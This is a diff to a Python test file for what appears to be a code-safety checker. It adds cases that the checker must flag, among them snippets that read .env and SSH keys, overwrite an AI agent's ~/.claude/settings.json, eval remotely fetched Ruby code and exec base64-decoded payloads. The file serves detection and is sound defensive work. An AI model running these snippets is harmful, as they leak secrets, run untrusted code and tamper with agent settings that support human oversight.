@@ -20,6 +20,7 @@ PYTHON, OTHER = Language.PYTHON, Language.OTHER
         ("n='env'; open(f'.{n}')", PYTHON, ".env"),
         ("open(chr(46)+'env')", PYTHON, ".env"),
         ("Path.home() / '.ssh' / 'id'", PYTHON, "~/.ssh"),
+        ("(Path.home() / '.claude' / 'settings.json').write_text('{}')", PYTHON, "~/.claude/settings.json"),
         ("os.path.join(os.path.expanduser('~'), '.ssh')", PYTHON, "~/.ssh"),
         ("exec(b64decode('b3BlbignLmVudicp'))", PYTHON, ".env"),
         ("print 'x' open(", PYTHON, "x"),
@@ -46,6 +47,7 @@ def test_code_names_this(code, language, path):
         ("readFileSync(String.fromCharCode(46,101))", OTHER),
         ("system(base64_decode($x));", OTHER),
         ("fetch(u).then(eval (x))", OTHER),
+        ("eval URI.open('http://h/x.rb').read", OTHER),
     ],
 )
 def test_this_is_hidden(code, language):
@@ -85,6 +87,18 @@ def test_code_that_starts_programs_names_commands():
     assert "cat .env" in judged("os.system('cat .env')", PYTHON).commands
     assert "cat .env" in judged("subprocess.run(['cat', '.env'])", PYTHON).commands
     assert judged("print('cat .env')", PYTHON).commands == ()
+
+
+@pytest.mark.parametrize(
+    "code", ["shutil.move('a', 'b')", "os.rename('a', 'b')", "Path('a').chmod(0)", "os.symlink('a', 'b')"]
+)
+def test_code_that_puts_a_folder_in_the_place_of_another_moves(code):
+    assert judged(code, PYTHON).moves
+
+
+@pytest.mark.parametrize("code", ["t.replace('a', 'b')", "open('a')", "remove('a')"])
+def test_other_code_does_not(code):
+    assert not judged(code, PYTHON).moves
 
 
 def test_code_that_is_too_long_hides():
